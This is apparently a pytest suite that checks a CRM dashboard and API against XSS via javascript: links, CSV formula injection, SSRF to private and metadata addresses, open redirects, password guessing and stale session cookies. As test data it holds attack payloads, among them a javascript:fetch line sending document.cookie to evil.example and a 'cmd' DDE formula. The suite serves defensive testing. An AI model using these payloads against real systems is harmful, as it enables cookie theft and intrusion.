"""The dashboard and the API cannot be turned on their users (issue 13, items 7-10): each
test plays the attack that worked before and finds it refused. Platform data holding a
`javascript:` link, spreadsheet formulas in exported cells, an anonymous caller making the
server fetch hosts and ports, open redirects after sign-in, password guessing, a session
cookie kept past sign-out, and query parameters that used to answer 500."""

from __future__ import annotations

import csv
import io
import threading
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
import requests
from flask import Flask, request
from flask.testing import FlaskClient
from sqlalchemy import func, insert, select
from werkzeug.serving import make_server

from connector import create_app
from connector.config import load_settings
from connector.db import get_engine, session
from connector.db.models import Account, Contact, Store
from connector.db.operations import DashboardUser
from connector.errors import ConfigError
from connector.web.api import create_token
from connector.web.dashboard import create_user, set_password
from connector.web.install.outbound import UNREACHABLE
from connector.web.security import link_or_text
from connector.web.sign_in import MAX_FAILURES_PER_ACCOUNT, MAX_FAILURES_PER_ADDRESS
from connector.write.apply import apply_batch
from platforms.base import MapContext
from platforms.shopify.mapper import fulfillment_rows
from tests.builders import fixture, make_store, order_batch
from tests.conftest import TEST_SECRETS

pytestmark = pytest.mark.slow
EMAIL, PASSWORD = "owner@shop.example", "correct horse battery"
EVIL_TRACKING = "javascript:fetch('//evil.example/'+document.cookie)"


# --- given ------------------------------------------------------------------------------


@pytest.fixture
def store_id(app: Flask) -> int:
    """A shop with one order, whose shipment's tracking URL came from the platform as a script."""
    with get_engine(app).begin() as conn:
        store = make_store(conn)
        account = conn.execute(select(Store.account_id).where(Store.id == store)).scalar_one()
        create_user(conn, account, EMAIL, PASSWORD)
        apply_batch(
            conn, store, order_batch(1001, created=datetime(2026, 5, 1, tzinfo=UTC), email="a@b.example")
        )
        shipped = fixture("shopify/webhook-fulfillments-create.json")
        shipped.update(order_id=1001, tracking_url=EVIL_TRACKING, tracking_urls=[EVIL_TRACKING])
        apply_batch(conn, store, fulfillment_rows(shipped, MapContext()))
    return store


def account_of(app: Flask, store_id: int) -> int:
    with get_engine(app).connect() as conn:
        return int(conn.execute(select(Store.account_id).where(Store.id == store_id)).scalar_one())


def csrf_token(client: FlaskClient) -> str:
    page = client.get("/login").get_data(as_text=True)
    return page.split('name="csrf_token" value="')[1].split('"')[0]


def sign_in(client: FlaskClient, password: str = PASSWORD, email: str = EMAIL, **options: Any) -> Any:
    """Through the form, as a browser would. Each request in an app context of its own: the
    test's context would otherwise share `g` (and Flask-WTF's token kept there) between clients."""
    with client.application.app_context():
        form = {"email": email, "password": password, "csrf_token": csrf_token(client)}
    with client.application.app_context():
        return client.post("/login", data=form, **options)


# --- 7: links from platform data, and the headers ------------------------------------------


def test_a_javascript_tracking_url_is_shown_as_text_not_as_a_link(app: Flask, store_id: int) -> None:
    client = app.test_client()
    assert sign_in(client).status_code == 302
    with get_engine(app).connect() as conn:
        contact = conn.execute(select(Contact.id).where(Contact.email == "a@b.example")).scalar_one()
    page = client.get(f"/contacts/{contact}").get_data(as_text=True)
    assert "1z827wk74630" in page  # the shipment is there, its number as plain text
    assert "javascript" not in page.lower() and "evil.example" not in page


@pytest.mark.parametrize(
    "url",
    [
        EVIL_TRACKING,
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "//evil.example/x",
        "/relative",
        "https:///no-host",
    ],
)
def test_only_http_links_from_platform_data_become_links(url: str) -> None:
    shown = str(link_or_text(url, "track"))
    assert shown == "track" and "<a" not in shown


def test_an_http_link_stays_a_link_and_its_text_is_escaped() -> None:
    shown = str(link_or_text('https://ups.example/t?n=1&x="><b>', "<b>1Z</b>"))
    assert shown.startswith('<a href="https://ups.example/t?n=1&amp;x=&#34;&gt;&lt;b&gt;"')
    assert "&lt;b&gt;1Z&lt;/b&gt;</a>" in shown and 'rel="noopener noreferrer nofollow"' in shown


@pytest.mark.parametrize(
    "path", ["/login", "/contacts", "/api/v1/stores", "/api/v1/openapi.json", "/healthz"]
)
def test_every_answer_carries_the_security_headers(app: Flask, path: str) -> None:
    answer = app.test_client().get(path)
    policy = answer.headers["Content-Security-Policy"]
    assert "default-src 'self'" in policy and "frame-ancestors 'none'" in policy
    assert "script-src 'self'" in policy and "'unsafe-inline'" not in policy
    assert answer.headers["X-Frame-Options"] == "DENY"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Referrer-Policy"] == "same-origin"


def test_the_session_cookie_is_httponly_lax_and_secure_over_https(app_env: dict[str, str]) -> None:
    for app_url, secure in (("http://127.0.0.1:5000", False), ("https://crm.example.com", True)):
        app = create_app({**app_env, "APP_URL": app_url})
        with app.app_context():
            client = app.test_client()
            client.get("/login")  # the CSRF token is kept in the session
            cookie = client.get_cookie("session")
            assert cookie is not None and cookie.http_only and cookie.same_site == "Lax"
            assert cookie.secure is secure
            assert ("Strict-Transport-Security" in client.get("/login").headers) is secure
        app.extensions["crm.engine"].dispose()


# --- 8: CSV cells a spreadsheet would run ---------------------------------------------------


FORMULAS = {
    "first_name": '=HYPERLINK("https://evil.example","click")',
    "last_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "email": "-2+3@x.example",
}


def test_csv_exports_neutralise_formulas_in_the_dashboard_and_the_api(app: Flask, store_id: int) -> None:
    account = account_of(app, store_id)
    with get_engine(app).begin() as conn:
        conn.execute(insert(Contact).values(account_id=account, phone_e164="+4915112345678", **FORMULAS))
    with session(app) as s, s.begin():
        token = create_token(s, account, "csv")
    client = app.test_client()
    sign_in(client)
    for answer in (
        client.get("/contacts.csv"),
        client.get("/api/v1/contacts?format=csv", headers={"Authorization": f"Bearer {token}"}),
    ):
        assert answer.status_code == 200 and answer.mimetype == "text/csv"
        rows = list(csv.DictReader(io.StringIO(answer.get_data(as_text=True))))
        [row] = [r for r in rows if r["email"].endswith("@x.example")]
        for field, value in FORMULAS.items():
            assert row[field] == "'" + value
        assert row["phone"] == "'+4915112345678"
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())


# --- 9: /woocommerce/connect ------------------------------------------------------------------


class FakeSite:
    """Something listening on loopback that answers 200 to anything (an empty JSON list, as a
    store with no orders would, or `body`), and counts what it got."""

    def __init__(self, body: str = "[]", kind: str = "application/json") -> None:
        self.seen: list[str] = []
        site = Flask("fake")

        @site.route("/<path:anything>", methods=["GET", "POST"])
        def anything(anything: str) -> Any:
            self.seen.append(request.path)
            return body, 200, {"Content-Type": kind}

        self.server = make_server("127.0.0.1", 0, site, threaded=True)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def fake_site() -> Iterator[FakeSite]:
    fake = FakeSite()
    yield fake
    fake.server.shutdown()


def start_connect(client: FlaskClient, url: str) -> Any:
    """The signed-in merchant's form, posted with its token (each in its own app context)."""
    with client.application.app_context():
        form = client.get("/woocommerce/connect", query_string={"store_url": url}).get_data(as_text=True)
    token = form.split('name="csrf_token" value="')[1].split('"')[0]
    with client.application.app_context():
        return client.post("/woocommerce/connect", data={"store_url": url, "csrf_token": token})


def callback_for(client: FlaskClient, location: str) -> Any:
    """What WooCommerce would POST back once the owner approved, for the connection in `location`."""
    nonce = location.split("user_id=")[1].split("&")[0]
    keys = {"user_id": nonce, "consumer_key": "ck_" + "a" * 40, "consumer_secret": "cs_" + "b" * 40}
    return client.post("/woocommerce/callback", json={**keys, "key_id": 1, "key_permissions": "read_write"})


def counts(app: Flask) -> tuple[int, int]:
    with get_engine(app).connect() as conn:
        return (
            conn.execute(select(func.count()).select_from(Account)).scalar_one(),
            conn.execute(select(func.count()).select_from(Store)).scalar_one(),
        )


def test_connect_needs_a_sign_in_and_an_anonymous_caller_makes_no_request(
    app: Flask, store_id: int, fake_site: FakeSite
) -> None:
    client, before = app.test_client(), counts(app)
    for answer in (
        client.get("/woocommerce/connect", query_string={"store_url": fake_site.url}),
        client.post("/woocommerce/connect", data={"store_url": fake_site.url}),
    ):
        assert answer.status_code == 302 and "/login" in answer.headers["Location"]
    forged = client.post(
        "/woocommerce/callback",
        json={"user_id": "guess", "consumer_key": "ck_" + "a" * 40, "consumer_secret": "cs_" + "b" * 40},
    )
    assert forged.status_code == 400
    assert fake_site.seen == [] and counts(app) == before  # no store, no account, no request


def instance(app_env: dict[str, str], allow_private: str) -> Iterator[Flask]:
    app = create_app({**app_env, "CONNECTOR_ALLOW_PRIVATE_URLS": allow_private})
    with app.app_context():
        yield app
    app.extensions["crm.engine"].dispose()


@pytest.fixture
def loopback_allowed(app_env: dict[str, str], store_id: int) -> Iterator[Flask]:
    """As the embedded default and the demo are: the sandbox's sites are on 127.0.0.1."""
    yield from instance(app_env, "true")


@pytest.fixture
def public_only(app_env: dict[str, str], store_id: int) -> Iterator[Flask]:
    """As a server deployment is: site URLs must resolve to public addresses."""
    yield from instance(app_env, "false")


def test_only_the_embedded_default_allows_private_addresses(tmp_path: Path) -> None:
    base = {"CONNECTOR_INSTANCE_PATH": str(tmp_path), **TEST_SECRETS}
    assert load_settings(base).allow_private_urls  # SQLite in the instance folder
    server = {**base, "DATABASE_URL": "postgresql+psycopg://crm@db.internal/crm"}
    assert not load_settings(server).allow_private_urls
    assert load_settings({**server, "CONNECTOR_ALLOW_PRIVATE_URLS": "true"}).allow_private_urls
    with pytest.raises(ConfigError, match="CONNECTOR_ALLOW_PRIVATE_URLS"):
        load_settings({**base, "CONNECTOR_ALLOW_PRIVATE_URLS": "yes"})


def test_a_signed_in_connect_joins_the_users_account_and_makes_no_new_one(
    loopback_allowed: Flask, store_id: int, fake_site: FakeSite
) -> None:
    app = loopback_allowed
    client = app.test_client()
    sign_in(client)
    accounts, stores = counts(app)
    started = start_connect(client, fake_site.url)
    assert started.status_code == 302
    assert callback_for(client, started.headers["Location"]).status_code == 200
    with get_engine(app).connect() as conn:
        site = conn.execute(select(Store).where(Store.domain == fake_site.url)).one()
    assert site.account_id == account_of(app, store_id) and counts(app) == (accounts, stores + 1)


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1:{port}",
        "http://localhost:{port}",
        "http://[::1]:{port}",
        "http://[::ffff:127.0.0.1]:{port}",
        "http://10.0.0.5:6379",
        "http://169.254.169.254",
        "http://0.0.0.0:{port}",
        "http://192.168.1.1",
        "http://no-such-host.invalid",
    ],
)
def test_private_addresses_are_refused_before_any_request_with_one_message(
    public_only: Flask, fake_site: FakeSite, url: str
) -> None:
    client = public_only.test_client()
    sign_in(client)
    port = fake_site.url.rsplit(":", 1)[1]
    answer = start_connect(client, url.format(port=port))
    assert answer.status_code == 400 and f'id="connect-error">{UNREACHABLE}<' in answer.get_data(as_text=True)
    assert fake_site.seen == []


def test_a_link_alone_starts_no_connection(loopback_allowed: Flask, fake_site: FakeSite) -> None:
    """A signed-in merchant lured to a link naming someone's site sees the form, filled in and
    escaped; nothing is started until they post it, and a post without the form's token is refused."""
    client = loopback_allowed.test_client()
    sign_in(client)
    lure = fake_site.url + '/"><b>x'
    page = client.get("/woocommerce/connect", query_string={"store_url": lure})
    assert page.status_code == 200 and 'value="' + fake_site.url + '/&#34;&gt;&lt;b&gt;x"' in page.get_data(
        as_text=True
    )
    assert "form-action 'self' https: http:" in page.headers["Content-Security-Policy"]
    forged = client.post("/woocommerce/connect", data={"store_url": fake_site.url})
    assert forged.status_code == 400 and fake_site.seen == []
    assert loopback_allowed.extensions["crm.redis"].keys("crm:oauth-state:*") == []


def test_port_states_are_not_revealed(loopback_allowed: Flask, store_id: int) -> None:
    """A closed port, a port nothing ever listened on, an open port that is no WooCommerce site
    (it answers a web page): the same answer, and no store."""
    app = loopback_allowed
    closed, web_page = FakeSite(), FakeSite("<!doctype html><p>hello", "text/html")
    closed.server.shutdown()
    closed.server.server_close()  # nothing listens on this port now
    client, before = app.test_client(), counts(app)
    sign_in(client)
    messages = set()
    for url in (closed.url, "http://127.0.0.1:1", web_page.url):
        started = start_connect(client, url)
        assert started.status_code == 302
        answer = callback_for(client, started.headers["Location"])
        assert answer.status_code == 400
        messages.add(answer.json["message"])
    web_page.server.shutdown()
    assert messages == {UNREACHABLE} and counts(app) == before


# --- 10: sign-in, sessions and query parameters ------------------------------------------------


@pytest.mark.parametrize(
    "target",
    [
        "/%09/evil.example",
        "//evil.example",
        "/\\evil.example",
        "/%5Cevil.example",
        "/%2F/evil.example",
        "/\t/evil.example",
        "https://evil.example/",
        "javascript:alert(1)",
        "/ /evil.example",
        "evil.example",
    ],
)
def test_after_sign_in_next_never_leaves_the_site(app: Flask, store_id: int, target: str) -> None:
    answer = sign_in(app.test_client(), query_string={"next": target})
    assert answer.status_code == 302 and answer.headers["Location"] == "/"


def test_after_sign_in_next_goes_back_to_the_page_asked_for(app: Flask, store_id: int) -> None:
    client = app.test_client()
    asked = client.get("/contacts?q=ada&segment=champions")
    assert asked.status_code == 302
    back = client.post(
        asked.headers["Location"],
        data={"email": EMAIL, "password": PASSWORD, "csrf_token": csrf_token(client)},
    )
    assert back.headers["Location"] == "/contacts?q=ada&segment=champions"


def test_wrong_passwords_are_throttled_per_account_without_checking_the_password(
    app: Flask, store_id: int
) -> None:
    client = app.test_client()
    answers = [sign_in(client, "wrong password!").status_code for _ in range(40)]
    assert answers[:MAX_FAILURES_PER_ACCOUNT] == [401] * MAX_FAILURES_PER_ACCOUNT
    assert set(answers[MAX_FAILURES_PER_ACCOUNT:]) == {429}
    refused = sign_in(client)  # the right password, while throttled: not even looked at
    assert refused.status_code == 429 and "Too many failed sign-ins" in refused.get_data(as_text=True)
    assert refused.headers["Retry-After"] == "900"
    with get_engine(app).connect() as conn:
        assert conn.execute(select(DashboardUser.last_login_at)).scalar_one() is None
    other = app.test_client()  # another account from another address is not held up by this one
    with get_engine(app).begin() as conn:
        create_user(conn, account_of(app, store_id), "second@shop.example", PASSWORD)
    assert (
        sign_in(other, email="second@shop.example", environ_base={"REMOTE_ADDR": "10.1.1.1"}).status_code
        == 302
    )


def test_parallel_guesses_cannot_all_slip_under_the_limit(app: Flask, store_id: int) -> None:
    """40 wrong passwords at once, over real HTTP to a threaded server: at most the limit of
    them is checked; the rest are 429 (attempts are counted before the password is)."""
    server = make_server("127.0.0.1", 0, app, threaded=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    url = f"http://127.0.0.1:{server.server_port}/login"
    browser = requests.Session()
    token = browser.get(url, timeout=10).text.split('name="csrf_token" value="')[1].split('"')[0]
    form = {"email": EMAIL, "password": "wrong password!", "csrf_token": token}
    with ThreadPoolExecutor(max_workers=20) as pool:
        statuses = list(pool.map(lambda _: browser.post(url, data=form, timeout=30).status_code, range(40)))
    server.shutdown()
    assert (
        statuses.count(401) <= MAX_FAILURES_PER_ACCOUNT
        and statuses.count(429) >= 40 - MAX_FAILURES_PER_ACCOUNT
    )
    assert set(statuses) <= {401, 429}


def test_wrong_passwords_are_throttled_per_client_address(app: Flask, store_id: int) -> None:
    client, here = app.test_client(), {"REMOTE_ADDR": "192.0.2.7"}
    for n in range(MAX_FAILURES_PER_ADDRESS):  # a different e-mail each time: no account reaches its limit
        assert (
            sign_in(client, "wrong password!", email=f"guess{n}@x.example", environ_base=here).status_code
            == 401
        )
    assert sign_in(client, environ_base=here).status_code == 429
    assert sign_in(client, environ_base={"REMOTE_ADDR": "192.0.2.8"}).status_code == 302


def test_while_failures_cannot_be_counted_no_password_is_checked(
    app_env: dict[str, str], store_id: int
) -> None:
    app = create_app({**app_env, "REDIS_URL": "redis://127.0.0.1:1/0"})  # Redis down
    with app.app_context():
        answer = sign_in(app.test_client())
        assert answer.status_code == 503 and "unavailable" in answer.get_data(as_text=True)
        with get_engine(app).connect() as conn:
            assert conn.execute(select(DashboardUser.last_login_at)).scalar_one() is None
    app.extensions["crm.engine"].dispose()


def test_a_cookie_captured_before_sign_out_no_longer_works(app: Flask, store_id: int) -> None:
    client = app.test_client()
    sign_in(client)
    captured = client.get_cookie("session")
    assert captured is not None and client.get("/contacts").status_code == 200
    page = client.get("/contacts").get_data(as_text=True)
    token = page.split('name="csrf_token" value="')[1].split('"')[0]
    assert client.post("/logout", data={"csrf_token": token}).status_code == 302
    thief = app.test_client()
    thief.set_cookie("session", captured.value)
    answer = thief.get("/contacts")
    assert answer.status_code == 302 and "/login" in answer.headers["Location"]


def test_a_new_password_ends_the_sessions_signed_in_with_the_old_one(app: Flask, store_id: int) -> None:
    client = app.test_client()
    sign_in(client)
    assert client.get("/contacts").status_code == 200
    with get_engine(app).begin() as conn:
        set_password(conn, conn.execute(select(DashboardUser.id)).scalar_one(), "a brand new password")
    assert client.get("/contacts").status_code == 302
    assert sign_in(app.test_client()).status_code == 401  # the old password is gone too
    assert sign_in(app.test_client(), "a brand new password").status_code == 302


BAD_PARAMETERS = [
    ("/contacts", {"cursor": "²"}, "cursor"),
    ("/contacts", {"cursor": "1" * 19}, "cursor"),
    ("/contacts", {"limit": "0"}, "limit"),
    ("/contacts", {"limit": "201"}, "limit"),
    ("/contacts", {"limit": "²"}, "limit"),
    ("/reports/channels", {"until": "0001-01-01"}, "until"),
    ("/reports/channels", {"since": "garbage"}, "since"),
    ("/reports/channels", {"since": "9999-12-31"}, "since"),
    ("/reports/sales-by-region", {"until": "0001-01-01"}, "until"),
    ("/orders", {"store_id": "²"}, "store_id"),
    ("/products", {"store_id": "0"}, "store_id"),
]


@pytest.mark.parametrize(("path", "params", "name"), BAD_PARAMETERS)
def test_a_bad_query_parameter_answers_400_naming_it_in_the_api(
    app: Flask, store_id: int, path: str, params: dict[str, str], name: str
) -> None:
    with session(app) as s, s.begin():
        token = create_token(s, account_of(app, store_id), "params")
    answer = app.test_client().get(
        f"/api/v1{path}", query_string=params, headers={"Authorization": f"Bearer {token}"}
    )
    assert answer.status_code == 400 and answer.json is not None
    assert answer.json["message"].startswith(f"{name}:"), answer.json


@pytest.mark.parametrize(
    ("path", "params", "name"),
    [
        ("/contacts", {"cursor": "²"}, "cursor"),
        ("/contacts.csv", {"cursor": "²"}, "cursor"),
        ("/channels", {"until": "0001-01-01"}, "until"),
        ("/channels", {"since": "garbage"}, "since"),
        ("/sales", {"until": "0001-01-01"}, "until"),
    ],
)
def test_a_bad_query_parameter_answers_400_naming_it_in_the_dashboard(
    app: Flask, store_id: int, path: str, params: dict[str, str], name: str
) -> None:
    client = app.test_client()
    sign_in(client)
    answer = client.get(path, query_string=params)
    assert answer.status_code == 400 and f"{name}:" in answer.get_data(as_text=True)


def test_a_record_id_too_big_for_the_database_is_not_found_on_the_dashboard(
    app: Flask, store_id: int
) -> None:
    client = app.test_client()
    sign_in(client)
    assert client.get(f"/contacts/{2**70}").status_code == 404
